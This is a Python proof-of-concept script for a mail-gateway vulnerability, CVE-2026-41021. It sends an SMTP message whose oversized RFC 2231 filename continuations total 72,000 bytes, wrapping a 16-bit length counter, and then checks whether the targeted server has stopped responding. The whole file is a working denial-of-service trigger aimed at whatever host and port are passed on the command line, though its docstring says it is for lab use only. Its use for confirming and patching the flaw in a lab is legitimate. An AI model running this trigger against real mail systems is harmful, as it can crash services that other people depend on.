#!/usr/bin/env python3
"""CVE-2026-41021 trigger: RFC 2231 length wrap in Contoso Mail Gateway.
Sends one message with oversized filename* continuations, then checks
whether SMTP still answers. Lab use only.
Usage: contoso-mime-trigger.py [host] [port]"""
import smtplib
import sys
import time

host = sys.argv[1] if len(sys.argv) > 1 else "127.0.0.1"
port = int(sys.argv[2]) if len(sys.argv) > 2 else 25
# 80 x 900 bytes = 72000 > 65535: wraps the uint16_t accumulator
parts = "".join(";\r\n filename*%d*=%s" % (i, "A" * 900) for i in range(80))
msg = ("From: poc@sender.example\r\nTo: test@contoso.example\r\n"
       "Subject: CVE-2026-41021 test\r\nMIME-Version: 1.0\r\n"
       "Content-Type: multipart/mixed; boundary=b1\r\n\r\n--b1\r\n"
       "Content-Type: application/octet-stream\r\n"
       "Content-Disposition: attachment" + parts + "\r\n\r\nAAAA\r\n--b1--\r\n")


def answers():
    try:
        with smtplib.SMTP(host, port, timeout=10) as s:
            return s.noop()[0] == 250
    except (OSError, smtplib.SMTPException):
        return False


if not answers():
    sys.exit("%s:%d does not answer SMTP; nothing sent" % (host, port))
try:
    with smtplib.SMTP(host, port, timeout=30) as s:
        s.sendmail("poc@sender.example", ["test@contoso.example"], msg)
    print("message accepted for scanning")
except smtplib.SMTPException as e:
    print("message rejected: %s" % e)
time.sleep(5)
print("service still answers" if answers() else "no answer: likely VULNERABLE")
